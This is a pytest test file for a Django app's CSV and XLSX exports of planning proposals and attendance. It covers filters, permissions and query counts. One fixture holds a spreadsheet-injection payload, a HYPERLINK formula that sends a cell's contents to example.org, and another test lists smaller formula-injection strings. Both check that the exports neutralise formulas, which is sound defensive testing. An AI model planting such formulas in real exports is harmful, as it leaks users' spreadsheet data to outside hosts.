"""Exports of proposals and attendance as CSV and XLSX: content, filters, permissions, queries."""

import csv
import datetime
import io
from urllib.parse import urlencode

import openpyxl
import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from ambiti.models import AreaPolicy, Ente
from core.esportazioni import come_csv, come_xlsx
from tavoli import esportazioni
from tavoli.models import Esito
from tests.factories import EnteFactory
from tests.factories.tavoli_esportazioni import (
    EsitoFactory,
    IncontroFactory,
    MembroFactory,
    PresenzaFactory,
    TavoloFactory,
)

INTESTAZIONE_PROPOSTE = [
    "Ambito",
    "Tavolo",
    "Incontro",
    "Data incontro",
    "Area di policy",
    "Destinatari",
    "Testo",
    "Valutazione",
    "Motivazione",
    "Accorpata in",
]
FORMULA = '=HYPERLINK("http://example.org/?d="&A1,"Clicca qui")'


@pytest.fixture
def aree(territorio):
    return {
        "anziani": AreaPolicy.objects.get(nome="Domiciliarità e anziani"),
        "casa": AreaPolicy.objects.get(nome="Politiche abitative"),
        "giovani": AreaPolicy.objects.get(nome="Politiche giovanili e per i minori"),
    }


@pytest.fixture
def tavolo(cremasco):
    return TavoloFactory(ambito=cremasco, titolo="Anziani e domiciliarità")


@pytest.fixture
def incontro(tavolo):
    return IncontroFactory(tavolo=tavolo, titolo="Primo incontro")


@pytest.fixture
def proposte(cremasco, cremonese, aree, tavolo, incontro):
    """Four proposals of one table, one of another table at night (UTC), one of Cremona."""
    accolta = EsitoFactory(
        incontro=incontro,
        testo="Potenziare il trasporto sociale verso i servizi diurni " * 3,
        area_policy=aree["anziani"],
        target="Anziani soli",
        valutazione=Esito.Valutazione.ACCOLTA,
        ordine=1,
    )
    formula = EsitoFactory(
        incontro=incontro, testo=FORMULA, area_policy=aree["casa"], target="-", ordine=2
    )
    accorpata = EsitoFactory(
        incontro=incontro,
        testo="Navetta per il centro diurno",
        area_policy=aree["anziani"],
        valutazione=Esito.Valutazione.ACCORPATA,
        accorpata_in=accolta,
        ordine=3,
    )
    respinta = EsitoFactory(
        incontro=incontro,
        testo="Casa di riposo in ogni comune",
        area_policy=aree["anziani"],
        valutazione=Esito.Valutazione.NON_ACCOLTA,
        motivazione="Fuori dalle competenze dell'ambito",
        ordine=4,
    )
    altro_tavolo = TavoloFactory(ambito=cremasco, titolo="Giovani")
    # 00:30 of 15 October in Crema, still the 14th in UTC.
    notturno = IncontroFactory(
        tavolo=altro_tavolo,
        titolo="Assemblea serale",
        inizio=datetime.datetime(2025, 10, 14, 22, 30, tzinfo=datetime.UTC),
    )
    giovani = EsitoFactory(
        incontro=notturno, testo="Centro di aggregazione giovanile", area_policy=aree["giovani"]
    )
    EsitoFactory(
        incontro__tavolo=TavoloFactory(ambito=cremonese, titolo="Anziani"),
        testo="Proposta di Cremona",
    )
    EsitoFactory(incontro=incontro, tipo=Esito.Tipo.BISOGNO, testo="Un bisogno, non esportato")
    return {
        "accolta": accolta,
        "formula": formula,
        "accorpata": accorpata,
        "respinta": respinta,
        "giovani": giovani,
    }


def _url_proposte(formato="csv", slug="cremasco"):
    return reverse("esportazioni:proposte", kwargs={"slug": slug, "formato": formato})


def _url_presenze(incontro, formato="csv"):
    return reverse(
        "esportazioni:presenze",
        kwargs={
            "slug": incontro.tavolo.ambito.slug,
            "pk": incontro.tavolo.pk,
            "ipk": incontro.pk,
            "formato": formato,
        },
    )


def _righe_csv(response):
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _foglio(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


# --- Proposals: content -----------------------------------------------------------------------


def test_csv_delle_proposte(client, ufficio_piano_crema, cremasco, proposte):
    client.force_login(ufficio_piano_crema)
    response = client.get(_url_proposte("csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    oggi = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="proposte-cremasco-{oggi:%Y-%m-%d}.csv"'
    )
    righe = _righe_csv(response)
    assert righe[0] == INTESTAZIONE_PROPOSTE
    assert [r[6] for r in righe[1:]] == [
        proposte["accolta"].testo,
        "'" + FORMULA,
        "Navetta per il centro diurno",
        "Casa di riposo in ogni comune",
        "Centro di aggregazione giovanile",
    ]
    assert righe[1] == [
        cremasco.nome,
        "Anziani e domiciliarità",
        "Primo incontro",
        "14/10/2025",
        "Domiciliarità e anziani",
        "Anziani soli",
        proposte["accolta"].testo,
        "Accolta",
        "",
        "",
    ]
    # The target «-» would be read as a formula too.
    assert righe[2][5] == "'-"
    assert righe[2][7] == "Da valutare"
    accorpata_in = righe[3][9]
    assert accorpata_in.startswith("Potenziare il trasporto sociale")
    assert len(accorpata_in) == esportazioni.LUNGHEZZA_ACCORPATA
    assert accorpata_in.endswith("…")
    assert righe[4][7:9] == ["Non accolta", "Fuori dalle competenze dell'ambito"]
    assert righe[5][3] == "15/10/2025"


def test_xlsx_delle_proposte(client, ufficio_piano_crema, cremasco, proposte):
    client.force_login(ufficio_piano_crema)
    response = client.get(_url_proposte("xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith('attachment; filename="proposte-cremasco-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    foglio = _foglio(response)
    assert foglio.title == "Proposte"
    assert foglio.freeze_panes == "A2"
    righe = list(foglio.iter_rows())
    assert [c.value for c in righe[0]] == INTESTAZIONE_PROPOSTE
    assert all(c.font.bold for c in righe[0])
    assert len(righe) == 6
    assert [c.value for c in righe[1]][:3] == [
        cremasco.nome,
        "Anziani e domiciliarità",
        "Primo incontro",
    ]
    date = [riga[3] for riga in righe[1:]]
    assert all(c.is_date for c in date)
    assert [c.value.date() for c in date] == [datetime.date(2025, 10, 14)] * 4 + [
        datetime.date(2025, 10, 15)
    ]
    assert date[0].number_format == "DD/MM/YYYY"
    # The formula is kept as the member typed it, as text.
    cella = righe[2][6]
    assert cella.value == FORMULA
    assert cella.data_type == "s"
    assert cella.quotePrefix
    assert not any(c.data_type == "f" for riga in righe for c in riga)
    assert 8 <= foglio.column_dimensions["G"].width <= 60


def test_le_proposte_di_altri_ambiti_e_gli_altri_esiti_restano_fuori(
    client, ufficio_piano_crema, proposte
):
    client.force_login(ufficio_piano_crema)
    testi = [r[6] for r in _righe_csv(client.get(_url_proposte()))]
    assert "Proposta di Cremona" not in testi
    assert "Un bisogno, non esportato" not in testi


def test_nessuna_proposta_solo_intestazione(client, ufficio_piano_crema):
    client.force_login(ufficio_piano_crema)
    assert _righe_csv(client.get(_url_proposte())) == [INTESTAZIONE_PROPOSTE]
    foglio = _foglio(client.get(_url_proposte("xlsx")))
    assert [c.value for c in next(foglio.iter_rows())] == INTESTAZIONE_PROPOSTE
    assert foglio.max_row == 1


# --- Proposals: filters -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parametri", "attese"),
    [
        ({}, ["accolta", "formula", "accorpata", "respinta", "giovani"]),
        ({"area": "anziani"}, ["accolta", "accorpata", "respinta"]),
        ({"tavolo": "giovani"}, ["giovani"]),
        ({"valutazione": "non_accolta"}, ["respinta"]),
        ({"q": "CENTRO"}, ["accorpata", "giovani"]),
        ({"area": "anziani", "q": "centro"}, ["accorpata"]),
        ({"q": "SOLI"}, ["accolta"]),
        ({"area": "x", "tavolo": "", "valutazione": "boh", "q": "  "}, None),
    ],
)
def test_filtri(client, ufficio_piano_crema, aree, proposte, parametri, attese):
    if attese is None:
        attese = ["accolta", "formula", "accorpata", "respinta", "giovani"]
    valori = {
        "area": lambda v: aree[v].pk if v in aree else v,
        "tavolo": lambda v: proposte[v].incontro.tavolo_id if v in proposte else v,
    }
    query = {k: valori.get(k, lambda v: v)(v) for k, v in parametri.items()}
    client.force_login(ufficio_piano_crema)
    testi = [r[6] for r in _righe_csv(client.get(_url_proposte(), query))[1:]]
    attesi = [proposte[nome].testo for nome in attese]
    assert [t.removeprefix("'") for t in testi] == attesi

    filtrate = esportazioni.filtra_proposte(
        Esito.objects.proposte().filter(incontro__tavolo__ambito__slug="cremasco"),
        QueryDict(urlencode(query)),
    )
    assert {e.testo for e in filtrate} == set(attesi)


# --- Proposals: permissions -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "stato"),
    [
        ("ufficio_piano_crema", 200),
        ("amministratore", 200),
        ("operatore_crema", 403),
        ("ente_crema", 403),
        ("sindaco_crema", 403),
        ("ufficio_piano_cremona", 404),
        ("senza_ruolo", 404),
    ],
)
@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_permessi_proposte(client, request, proposte, persona, stato, formato):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(_url_proposte(formato)).status_code == stato


def test_anonimo_va_al_login(client, cremasco):
    response = client.get(_url_proposte())
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_solo_get(client, ufficio_piano_crema):
    client.force_login(ufficio_piano_crema)
    assert client.post(_url_proposte()).status_code == 405


def test_formato_sconosciuto(client, ufficio_piano_crema):
    client.force_login(ufficio_piano_crema)
    assert client.get(_url_proposte("pdf")).status_code == 404
    assert client.get(_url_proposte("xls")).status_code == 404


def test_ambito_inesistente(client, amministratore):
    client.force_login(amministratore)
    assert client.get(_url_proposte(slug="atlantide")).status_code == 404


def _crea_proposte(incontro, aree, numero):
    for n in range(numero):
        bersaglio = EsitoFactory(incontro=incontro, area_policy=aree["casa"], ordine=n)
        EsitoFactory(
            incontro=incontro,
            area_policy=aree["anziani"],
            valutazione=Esito.Valutazione.ACCORPATA,
            accorpata_in=bersaglio,
        )


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_query_costanti_proposte(client, ufficio_piano_crema, aree, cremasco, formato):
    client.force_login(ufficio_piano_crema)
    conteggi = []
    for numero in (3, 30):
        tavolo = TavoloFactory(ambito=cremasco)
        _crea_proposte(IncontroFactory(tavolo=tavolo), aree, numero)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(_url_proposte(formato), {"tavolo": tavolo.pk})
        assert response.status_code == 200
        conteggi.append(len(queries))
    assert conteggi[0] == conteggi[1]


# --- Attendance -------------------------------------------------------------------------------


@pytest.fixture
def presenze(incontro, ente_crema, iscrizione_crema):
    auser = EnteFactory(denominazione="Auser Crema", tipo=Ente.Tipo.ODV)
    PresenzaFactory(
        incontro=incontro,
        membro=MembroFactory(tavolo=incontro.tavolo, ente=iscrizione_crema.ente, nome=""),
        partecipanti=2,
    )
    PresenzaFactory(
        incontro=incontro, membro=MembroFactory(tavolo=incontro.tavolo, ente=auser, nome="")
    )
    PresenzaFactory(
        incontro=incontro,
        membro=MembroFactory(tavolo=incontro.tavolo, nome="@Maria Rossi", ruolo="Assistente"),
        partecipanti=3,
    )
    # A member who did not come.
    MembroFactory(tavolo=incontro.tavolo, nome="Assente")
    return incontro


def test_csv_delle_presenze(client, ufficio_piano_crema, presenze):
    client.force_login(ufficio_piano_crema)
    response = client.get(_url_presenze(presenze))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="presenze-anziani-e-domiciliarita-2025-10-14.csv"'
    )
    assert _righe_csv(response) == [
        ["Ente o persona", "Tipo di ente", "Partecipanti"],
        ["'@Maria Rossi", "", "3"],
        ["Auser Crema", "Organizzazione di volontariato (ODV)", "1"],
        ["Cooperativa Il Ponte", "Associazione di promozione sociale (APS)", "2"],
        ["Totale", "", "6"],
    ]


def test_xlsx_delle_presenze(client, ufficio_piano_crema, presenze):
    client.force_login(ufficio_piano_crema)
    foglio = _foglio(client.get(_url_presenze(presenze, "xlsx")))
    assert foglio.title == "Presenze"
    valori = [[c.value for c in riga] for riga in foglio.iter_rows()]
    assert valori[0] == ["Ente o persona", "Tipo di ente", "Partecipanti"]
    assert valori[1][0] == "@Maria Rossi"
    assert valori[-1] == ["Totale", None, 6]
    assert [foglio.cell(row=r, column=3).data_type for r in range(2, 6)] == ["n"] * 4
    assert [v[2] for v in valori[1:]] == [3, 1, 2, 6]


def test_presenze_senza_presenze(client, ufficio_piano_crema, incontro):
    client.force_login(ufficio_piano_crema)
    assert _righe_csv(client.get(_url_presenze(incontro))) == [
        ["Ente o persona", "Tipo di ente", "Partecipanti"],
        ["Totale", "", "0"],
    ]


@pytest.mark.parametrize(
    ("persona", "stato"),
    [
        ("ufficio_piano_crema", 200),
        ("operatore_del_tavolo", 200),
        ("coordinatore", 200),
        ("operatore_crema", 404),
        ("ente_crema", 403),
        ("sindaco_crema", 404),
        ("ufficio_piano_cremona", 404),
    ],
)
def test_permessi_presenze(client, request, presenze, ente_crema, persona, stato):
    tavolo = presenze.tavolo
    if persona == "operatore_del_tavolo":
        user = request.getfixturevalue("operatore_crema")
        tavolo.operatori.add(user)
    elif persona == "coordinatore":
        # Coordinators are staff of the ambito (an operator who does not operate this table).
        user = request.getfixturevalue("operatore_crema")
        tavolo.coordinatori.add(user)
    else:
        user = request.getfixturevalue(persona)
    client.force_login(user)
    for formato in ("csv", "xlsx"):
        assert client.get(_url_presenze(presenze, formato)).status_code == stato


def test_operatore_di_un_altro_ambito_non_esporta(client, presenze, cremonese):
    from accounts.models import Ruolo
    from tests.factories import RuoloFactory, UserFactory

    # Listed among the operators by mistake, but working for another ambito.
    estraneo = UserFactory(username="operatore_cremona")
    RuoloFactory(user=estraneo, tipo=Ruolo.Tipo.OPERATORE, ambito=cremonese)
    presenze.tavolo.operatori.add(estraneo)
    client.force_login(estraneo)
    assert client.get(_url_presenze(presenze)).status_code == 404


def test_presenze_di_un_incontro_di_un_altro_tavolo(client, ufficio_piano_crema, incontro):
    altro = IncontroFactory(tavolo=TavoloFactory(ambito=incontro.tavolo.ambito))
    url = reverse(
        "esportazioni:presenze",
        kwargs={"slug": "cremasco", "pk": incontro.tavolo.pk, "ipk": altro.pk, "formato": "csv"},
    )
    client.force_login(ufficio_piano_crema)
    assert client.get(url).status_code == 404


def test_presenze_solo_get_e_formati_noti(client, ufficio_piano_crema, incontro):
    client.force_login(ufficio_piano_crema)
    assert client.post(_url_presenze(incontro)).status_code == 405
    assert client.get(_url_presenze(incontro, "ods")).status_code == 404


def test_query_costanti_presenze(client, ufficio_piano_crema, cremasco):
    client.force_login(ufficio_piano_crema)
    conteggi = []
    for numero in (3, 30):
        incontro = IncontroFactory(tavolo=TavoloFactory(ambito=cremasco))
        for _ in range(numero):
            PresenzaFactory(
                incontro=incontro, membro__ente=EnteFactory(), membro__nome="", partecipanti=2
            )
        with CaptureQueriesContext(connection) as queries:
            response = client.get(_url_presenze(incontro, "xlsx"))
        assert response.status_code == 200
        conteggi.append(len(queries))
        assert _foglio(response).cell(row=numero + 2, column=3).value == 2 * numero
    assert conteggi[0] == conteggi[1]


# --- Formats ----------------------------------------------------------------------------------


@pytest.mark.parametrize("testo", ["=1+1", "+39 0373 1234", "-2", "@SOMMA(A1)", "\t=1"])
def test_iniezione_di_formule_neutralizzata(testo):
    righe = [["Testo", "Numero"], [testo, -2]]
    letto = list(csv.reader(io.StringIO(come_csv(righe).decode("utf-8-sig")), delimiter=";"))
    assert letto[1] == ["'" + testo, "-2"]

    foglio = openpyxl.load_workbook(io.BytesIO(come_xlsx(righe, "Prova"))).active
    cella = foglio["A2"]
    assert (cella.value, cella.data_type) == (testo, "s")
    # Real numbers stay numbers, negative ones included.
    assert (foglio["B2"].value, foglio["B2"].data_type) == (-2, "n")


def test_testo_normale_non_cambia():
    righe = [["Testo"], ['Città; «virgolette» e "doppi apici"\nsu due righe'], ["a=b"]]
    letto = list(csv.reader(io.StringIO(come_csv(righe).decode("utf-8-sig")), delimiter=";"))
    assert letto == righe


def test_xlsx_nome_del_foglio_e_caratteri_di_controllo():
    contenuto = come_xlsx(
        [["Testo"], ["incollato da Word\x0b con un carattere di controllo"]],
        "Proposte: 2025/2026 [bozza] con un nome lungo",
    )
    foglio = openpyxl.load_workbook(io.BytesIO(contenuto)).active
    assert len(foglio.title) <= 31
    assert not set(foglio.title) & set("[]:*?/\\")
    assert foglio["A2"].value == "incollato da Word con un carattere di controllo"
